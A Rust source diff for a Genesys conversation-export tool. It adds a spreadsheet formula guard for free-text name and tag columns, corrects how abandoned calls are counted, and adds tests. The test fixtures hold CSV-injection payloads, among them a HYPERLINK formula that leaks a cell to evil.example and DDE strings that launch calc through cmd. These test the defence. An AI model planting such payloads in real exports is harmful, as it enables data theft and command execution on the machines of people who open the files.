@@ -8,11 +8,14 @@
 //! itself is the driver's; here names arrive through a function). Multi-valued cells join the
 //! distinct values with `;` in first-seen order: participants, then sessions, then segments,
 //! as the API lists them. Name cells are positional: the n-th name is that of the n-th id of
-//! the matching id column, empty where the name is unknown.
+//! the matching id column, empty where the name is unknown. A column marked `free_text` holds
+//! text people typed (names, tags): its cells go through the formula guard (`formula.rs`)
+//! when the rows are written; ids, times, numbers and phone numbers are never marked.
 
 use time::OffsetDateTime;
 
 use crate::api::Lookup;
+use crate::formula::Formulas;
 use crate::record::{Conversation, Segment, Session};
 #[cfg(test)]
 use crate::tz;
@@ -48,6 +51,9 @@ pub struct Column {
     /// Where the cell comes from, one line.
     pub description: &'static str,
     pub cell: Cell,
+    /// Text people typed (a name, a tag): guarded against formulas unless
+    /// `--no-formula-guard`. Ids, times, numbers, enums and phone numbers are not.
+    pub free_text: bool,
 }
 
 impl Column {
@@ -73,6 +79,22 @@ impl Column {
                 })
                 .collect::<Vec<_>>()
                 .join(SEPARATOR),
+        }
+    }
+
+    /// The column's cell as a CSV file writes it: guarded against formulas when the column is
+    /// free text and `formulas` says so.
+    pub fn csv_cell(
+        &self,
+        conversation: &Conversation,
+        name_of: NameOf,
+        formulas: Formulas,
+        zone: &Zone,
+    ) -> String {
+        let cell = self.cell_in(conversation, name_of, zone);
+        match self.free_text {
+            true => formulas.apply(cell),
+            false => cell,
         }
     }
 
@@ -113,6 +135,19 @@ const fn text(
         name,
         description,
         cell: Cell::Text(f),
+        free_text: false,
+    }
+}
+
+/// A text column whose cells are free text (see `Column::free_text`).
+const fn free_text(
+    name: &'static str,
+    description: &'static str,
+    f: fn(&Conversation) -> String,
+) -> Column {
+    Column {
+        free_text: true,
+        ..text(name, description, f)
     }
 }
 
@@ -125,6 +160,7 @@ const fn local(
         name,
         description,
         cell: Cell::Local(f),
+        free_text: false,
     }
 }
 
@@ -133,6 +169,7 @@ const fn metric(name: &'static str, description: &'static str, metric: &'static 
         name,
         description,
         cell: Cell::Metric(metric),
+        free_text: false,
     }
 }
 
@@ -146,6 +183,8 @@ const fn names(
         name,
         description,
         cell: Cell::Names(lookup, ids),
+        // Names are typed by the org's administrators: free text.
+        free_text: true,
     }
 }
 
@@ -198,25 +237,25 @@ pub const CATALOGUE: [Column; 32] = [
         Lookup::WrapUpCodes,
         wrap_up_codes,
     ),
-    metric("t_talk", "sum of sessions' tTalk metrics, ms (agents talking)", "tTalk"),
-    metric("t_held", "sum of sessions' tHeld metrics, ms (customer on hold)", "tHeld"),
+    metric("t_talk", "sum of sessions' tTalk metrics, ms (agents talking; emitted per segment, so a leg in progress has them)", "tTalk"),
+    metric("t_held", "sum of sessions' tHeld metrics, ms (customer on hold, per segment; on messaging also the agent's time on other interactions)", "tHeld"),
     metric("t_acw", "sum of sessions' tAcw metrics, ms (after-call work)", "tAcw"),
-    metric("t_handle", "sum of sessions' tHandle metrics, ms (talk + hold + after-call work)", "tHandle"),
+    metric("t_handle", "sum of sessions' tHandle metrics over every agent session, ms (talk + hold + after-call work, of an agent who never answered too; outbound adds dialing and contacting)", "tHandle"),
     metric("t_acd", "sum of sessions' tAcd metrics, ms (waiting in queue)", "tAcd"),
     metric("t_abandon", "sum of sessions' tAbandon metrics, ms (queue wait before abandoning)", "tAbandon"),
     metric("t_ivr", "sum of sessions' tIvr metrics, ms (in the IVR)", "tIvr"),
     metric("t_alert", "sum of sessions' tAlert metrics, ms (agents alerted)", "tAlert"),
-    metric("t_answered", "sum of sessions' tAnswered metrics, ms (queue wait before an answer)", "tAnswered"),
+    metric("t_answered", "sum of sessions' tAnswered metrics over every queue leg, ms (queue wait before an answer)", "tAnswered"),
     metric("n_offered", "sum of sessions' nOffered metrics (offers to a queue)", "nOffered"),
     metric("n_transfers", "sum of sessions' nTransferred metrics (transfers)", "nTransferred"),
-    text("abandoned", "true when a session carries a tAbandon metric; else false once ended, empty while in progress", abandoned),
-    text("customer_disconnect_type", "distinct disconnectType of segments of participants with purpose customer", |c| {
+    text("abandoned", "offered to a queue (nOffered): true when a session carries tAbandon, else false once ended; empty when never offered (outbound, internal, IVR only) or in progress; abandon rate = abandoned / offered", abandoned),
+    text("customer_disconnect_type", "distinct disconnectType of the customer's segments, the customer leg's view (peer: the agent or system hung up; endpoint, client: the customer)", |c| {
         let customers = c.participants.iter().filter(|p| p.purpose.as_deref() == Some("customer"));
         let segments = customers.flat_map(|p| &p.sessions).flat_map(|s| &s.segments);
         join(distinct(segments.map(|s| s.disconnect_type.as_deref())))
     }),
-    text("external_tag", "externalTag", |c| c.external_tag.as_deref().unwrap_or_default().to_string()),
-    text("conversation_initiator", "conversationInitiator (the purpose of the participant who started it)", |c| {
+    free_text("external_tag", "externalTag", |c| c.external_tag.as_deref().unwrap_or_default().to_string()),
+    text("conversation_initiator", "conversationInitiator: the purpose of the participant who started a message conversation; set for messaging only", |c| {
         c.conversation_initiator.as_deref().unwrap_or_default().to_string()
     }),
     text("min_mos", "mediaStatsMinConversationMos as the API writes it (voice quality, 1 to 5); empty when absent", |c| {
@@ -349,19 +388,23 @@ pub fn metric_sum(c: &Conversation, name: &str) -> Option<i64> {
     values.try_fold(0i64, i64::checked_add)
 }
 
+/// Abandonment as Genesys counts it: only a conversation offered to a queue (`nOffered`) can
+/// be abandoned, and it was when a session carries `tAbandon` (emitted on the queue's `acd`
+/// participant when the customer leaves the queue). One never offered — outbound, internal,
+/// IVR only — is empty, not "not abandoned", so abandoned ÷ offered is the abandon rate.
 fn abandoned(c: &Conversation) -> String {
+    let offered = metric_sum(c, "nOffered").is_some_and(|n| n > 0);
     let abandoned = c
         .participants
         .iter()
         .flat_map(|p| &p.sessions)
         .flat_map(|s| &s.metrics)
         .any(|m| m.name == "tAbandon");
-    if abandoned {
-        "true".to_string()
-    } else if c.conversation_end.is_some() {
-        "false".to_string()
-    } else {
-        String::new()
+    match (offered, abandoned, c.conversation_end.is_some()) {
+        (false, _, _) => String::new(),
+        (true, true, _) => "true".to_string(),
+        (true, false, true) => "false".to_string(),
+        (true, false, false) => String::new(),
     }
 }
 
@@ -496,7 +539,7 @@ mod tests {
     }
 
     #[test]
-    fn abandonment_is_read_from_the_tabandon_metric() {
+    fn abandonment_is_read_from_the_tabandon_metric_of_a_conversation_offered_to_a_queue() {
         let conversation = |end: &str, metrics: &str| -> Conversation<'static> {
             let text = format!(
                 r#"{{"conversationId":"x","conversationStart":"s"{end},"participants":[
@@ -505,12 +548,308 @@ mod tests {
             serde_json::from_str(Box::leak(text.into_boxed_str())).unwrap()
         };
         let ended = r#","conversationEnd":"e""#;
-        let abandon = r#"{"name":"tAbandon","value":7000}"#;
+        let offered = r#"{"name":"nOffered","value":1}"#;
+        let abandon = r#"{"name":"nOffered","value":1},{"name":"tAbandon","value":7000}"#;
         check(&conversation(ended, abandon), "abandoned", "true");
         check(&conversation(ended, abandon), "t_abandon", "7000");
-        check(&conversation(ended, ""), "abandoned", "false");
-        check(&conversation("", ""), "abandoned", "");
+        check(&conversation(ended, offered), "abandoned", "false");
+        check(&conversation("", offered), "abandoned", "");
         check(&conversation("", abandon), "abandoned", "true");
+        // Never offered to a queue (outbound, internal, IVR only): neither abandoned nor not.
+        check(&conversation(ended, ""), "abandoned", "");
+        check(
+            &conversation(ended, r#"{"name":"tIvr","value":9000}"#),
+            "abandoned",
+            "",
+        );
+        check(
+            &conversation(ended, r#"{"name":"nOffered","value":0}"#),
+            "abandoned",
+            "",
+        );
+    }
+
+    #[test]
+    fn only_names_and_tags_are_free_text() {
+        let free: Vec<&str> = CATALOGUE
+            .iter()
+            .filter(|c| c.free_text)
+            .map(|c| c.name)
+            .collect();
+        assert_eq!(
+            free,
+            ["queue_names", "user_names", "wrap_up_names", "external_tag"]
+        );
+    }
+
+    #[test]
+    fn the_readme_names_exactly_the_guarded_columns() {
+        let readme = include_str!("../README.md");
+        let at = readme
+            .find("**Formulas in names.**")
+            .expect("README's formula paragraph");
+        let paragraph = &readme[at..];
+        let paragraph = &paragraph[..paragraph.find("\n\n").unwrap_or(paragraph.len())];
+        let named: Vec<&str> = paragraph
+            .split('`')
+            .skip(1)
+            .step_by(2)
+            .filter(|word| find(word).is_some())
+            .collect();
+        let free: Vec<&str> = CATALOGUE
+            .iter()
+            .filter(|c| c.free_text)
+            .map(|c| c.name)
+            .collect();
+        // The paragraph also names `ani` as one that is never changed.
+        let guarded: Vec<&str> = named.into_iter().filter(|n| *n != "ani").collect();
+        assert_eq!(guarded, free);
+        assert!(paragraph.contains("`--attribute` column"), "{paragraph}");
+    }
+
+    /// The sample records of the simulator, shaped like records real orgs published.
+    const PUBLISHED: [(&str, &str); 7] = [
+        (
+            "never_answered",
+            include_str!("../tests/sim/samples/never_answered.json"),
+        ),
+        (
+            "web_messaging",
+            include_str!("../tests/sim/samples/web_messaging_transfers.json"),
+        ),
+        (
+            "older_org",
+            include_str!("../tests/sim/samples/older_org.json"),
+        ),
+        (
+            "outbound",
+            include_str!("../tests/sim/samples/outbound.json"),
+        ),
+        (
+            "ivr_only",
+            include_str!("../tests/sim/samples/ivr_only.json"),
+        ),
+        (
+            "leg_in_progress",
+            include_str!("../tests/sim/samples/leg_in_progress.json"),
+        ),
+        (
+            "formulas",
+            include_str!("../tests/sim/samples/formulas.json"),
+        ),
+    ];
+
+    /// The names the sample org's lookups give.
+    fn published_name(_: Lookup, id: &str) -> Option<String> {
+        let name = match id.strip_prefix("5a000000-0000-4000-8000-00000000")? {
+            "a001" => "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"x\")",
+            "a002" => "Web Chat Tier 1",
+            "a003" => "Web Chat Tier 2",
+            "b001" => "+Mallory =cmd",
+            "b002" => "Ana Ruiz",
+            "b003" => "Ben Okafor",
+            "c001" => "@SUM(1+1)*cmd|' /C calc'!A0",
+            "c002" => "Resolved",
+            _ => return None,
+        };
+        Some(name.to_string())
+    }
+
+    /// The non-empty cells each published shape gives, as Genesys defines the columns; every
+    /// other column must be empty.
+    fn published_cells(sample: &str) -> Vec<(&'static str, &'static str)> {
+        let id = |n: &'static str| n;
+        let mut cells = match sample {
+            "never_answered" => vec![
+                (
+                    "conversation_id",
+                    id("5a000000-0000-4000-8000-000000000001"),
+                ),
+                ("conversation_start", "2021-03-04T09:00:00.000Z"),
+                ("conversation_end", "2021-03-04T09:06:10.000Z"),
+                ("originating_direction", "inbound"),
+                ("media_types", "voice"),
+                ("queue_ids", "5a000000-0000-4000-8000-00000000a002"),
+                ("queue_names", "Web Chat Tier 1"),
+                (
+                    "user_ids",
+                    "5a000000-0000-4000-8000-00000000b002;5a000000-0000-4000-8000-00000000b003",
+                ),
+                ("ani", "tel:+3312345"),
+                ("dnis", "tel:+18005550100"),
+                (
+                    "wrap_up_codes",
+                    "ININ-WRAP-UP-TIMEOUT;5a000000-0000-4000-8000-00000000c002",
+                ),
+                ("user_names", "Ana Ruiz;Ben Okafor"),
+                ("wrap_up_names", "ININ-WRAP-UP-TIMEOUT;Resolved"),
+                ("t_talk", "300000"),
+                // The agent who never answered carries after-call work and handle time.
+                ("t_acw", "100000"),
+                ("t_handle", "400000"),
+                ("t_acd", "55000"),
+                ("t_alert", "25000"),
+                ("t_answered", "55000"),
+                ("n_offered", "1"),
+                ("abandoned", "false"),
+                ("customer_disconnect_type", "endpoint"),
+                ("min_mos", "4.921803743844289"),
+            ],
+            "web_messaging" => vec![
+                ("conversation_id", "5a000000-0000-4000-8000-000000000002"),
+                ("conversation_start", "2022-06-10T13:00:00.000Z"),
+                ("conversation_end", "2022-06-10T15:15:00.000Z"),
+                ("originating_direction", "inbound"),
+                ("media_types", "message"),
+                (
+                    "queue_ids",
+                    "5a000000-0000-4000-8000-00000000a002;5a000000-0000-4000-8000-00000000a003",
+                ),
+                ("queue_names", "Web Chat Tier 1;Web Chat Tier 2"),
+                (
+                    "user_ids",
+                    "5a000000-0000-4000-8000-00000000b002;5a000000-0000-4000-8000-00000000b003",
+                ),
+                ("wrap_up_codes", "5a000000-0000-4000-8000-00000000c002"),
+                ("user_names", "Ana Ruiz;Ben Okafor"),
+                ("wrap_up_names", "Resolved"),
+                ("t_talk", "1910000"),
+                // 1 h 37 min on other interactions counts as held on messaging.
+                ("t_held", "5820000"),
+                ("t_acw", "30000"),
+                ("t_handle", "7760000"),
+                ("t_acd", "368000"),
+                // Every queue leg that was answered: the first and the last.
+                ("t_answered", "128000"),
+                ("n_offered", "6"),
+                ("n_transfers", "5"),
+                ("abandoned", "false"),
+                ("customer_disconnect_type", "peer"),
+                ("conversation_initiator", "customer"),
+            ],
+            "older_org" => vec![
+                ("conversation_id", "xxxxxxxx-xxxx-xxxx-xxxx-xxxxxxxxxxxx"),
+                ("conversation_start", "2016-09-05T11:50:49.58Z"),
+                ("media_types", "voice"),
+                ("queue_ids", "xxxxxxxx-xxxx-xxxx-xxxx-xxxxxxxxxxxx"),
+                ("user_ids", "xxxxxxxx-xxxx-xxxx-xxxx-xxxxxxxxxxxx"),
+                ("ani", "tel:+13175551234"),
+                ("dnis", "tel:+13175550000"),
+                ("customer_disconnect_type", "endpoint"),
+            ],
+            "outbound" => vec![
+                ("conversation_id", "5a000000-0000-4000-8000-000000000004"),
+                ("conversation_start", "2023-01-17T16:20:00.000Z"),
+                ("conversation_end", "2023-01-17T16:24:00.000Z"),
+                ("originating_direction", "outbound"),
+                ("media_types", "voice"),
+                ("user_ids", "5a000000-0000-4000-8000-00000000b003"),
+                ("ani", "tel:+18005550100"),
+                ("dnis", "tel:+4915112345678"),
+                ("wrap_up_codes", "5a000000-0000-4000-8000-00000000c002"),
+                ("user_names", "Ben Okafor"),
+                ("wrap_up_names", "Resolved"),
+                ("t_talk", "225000"),
+                ("t_acw", "20000"),
+                // Dialing and contacting count in an outbound call's handle time.
+                ("t_handle", "260000"),
+                // The customer leg's view: peer, the agent hung up.
+                ("customer_disconnect_type", "peer"),
+                ("min_mos", "4.41"),
+            ],
+            "ivr_only" => vec![
+                ("conversation_id", "5a000000-0000-4000-8000-000000000005"),
+                ("conversation_start", "2023-05-02T07:45:00.000Z"),
+                ("conversation_end", "2023-05-02T07:46:30.000Z"),
+                ("originating_direction", "inbound"),
+                ("media_types", "voice"),
+                ("ani", "tel:+15551230009"),
+                ("dnis", "tel:+18005550100"),
+                ("t_ivr", "90000"),
+                ("customer_disconnect_type", "endpoint"),
+                ("min_mos", "4.88"),
+            ],
+            "leg_in_progress" => vec![
+                ("conversation_id", "5a000000-0000-4000-8000-000000000006"),
+                ("conversation_start", "2024-02-20T22:10:00.000Z"),
+                ("originating_direction", "inbound"),
+                ("media_types", "voice"),
+                ("queue_ids", "5a000000-0000-4000-8000-00000000a002"),
+                ("queue_names", "Web Chat Tier 1"),
+                ("user_ids", "5a000000-0000-4000-8000-00000000b002"),
+                ("ani", "tel:+15551230010"),
+                ("dnis", "tel:+18005550100"),
+                ("user_names", "Ana Ruiz"),
+                // Emitted per segment: the leg in progress already has them.
+                ("t_talk", "105000"),
+                ("t_held", "30000"),
+                ("t_acd", "18000"),
+                ("t_answered", "18000"),
+                ("n_offered", "1"),
+            ],
+            "formulas" => vec![
+                ("conversation_id", "5a000000-0000-4000-8000-000000000007"),
+                ("conversation_start", "2024-08-08T12:00:00.000Z"),
+                ("conversation_end", "2024-08-08T12:05:00.000Z"),
+                ("originating_direction", "inbound"),
+                ("media_types", "voice"),
+                ("queue_ids", "5a000000-0000-4000-8000-00000000a001"),
+                ("user_ids", "5a000000-0000-4000-8000-00000000b001"),
+                ("ani", "+3312345"),
+                ("dnis", "+18005550100"),
+                ("wrap_up_codes", "5a000000-0000-4000-8000-00000000c001"),
+                ("t_talk", "290000"),
+                ("t_acw", "5000"),
+                ("t_handle", "295000"),
+                ("t_acd", "9000"),
+                ("t_answered", "9000"),
+                ("n_offered", "1"),
+                ("abandoned", "false"),
+                ("customer_disconnect_type", "endpoint"),
+                // Free text as the record and the lookups give it: the rows guard it.
+                (
+                    "queue_names",
+                    "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"x\")",
+                ),
+                ("user_names", "+Mallory =cmd"),
+                ("wrap_up_names", "@SUM(1+1)*cmd|' /C calc'!A0"),
+                ("external_tag", "-2+3;=cmd|' /C calc'!A0"),
+            ],
+            other => panic!("no cells for {other}"),
+        };
+        if sample != "older_org" {
+            cells.push(("division_ids", "7f0b3a41-1c9e-4d2a-9b77-2f4e5d6c7a01"));
+        }
+        cells
+    }
+
+    #[test]
+    fn every_column_means_what_genesys_defines_on_published_shapes() {
+        for (sample, text) in PUBLISHED {
+            let raw = serde_json::value::RawValue::from_string(text.to_string()).unwrap();
+            let c = Conversation::read(&raw).unwrap();
+            let mut want = published_cells(sample);
+            // Without a zone the local columns are UTC: the start in milliseconds with its
+            // offset written out, and its date.
+            let start = want.iter().find(|(name, _)| *name == "conversation_start");
+            let start = start.map_or("", |(_, cell)| *cell);
+            let start = crate::window::parse_api_timestamp(start).map(crate::window::api_timestamp);
+            let start = start.unwrap_or_default();
+            let local = start.replace('Z', "+00:00");
+            want.push(("conversation_start_local", &local));
+            want.push((
+                "conversation_date_local",
+                start.get(..10).unwrap_or_default(),
+            ));
+            for column in &CATALOGUE {
+                let cell = want
+                    .iter()
+                    .find(|(name, _)| *name == column.name)
+                    .map_or("", |(_, cell)| cell);
+                let got = column.cell(&c, &published_name);
+                assert_eq!(got, cell, "{sample}: {}", column.name);
+            }
+        }
     }
 
     #[test]
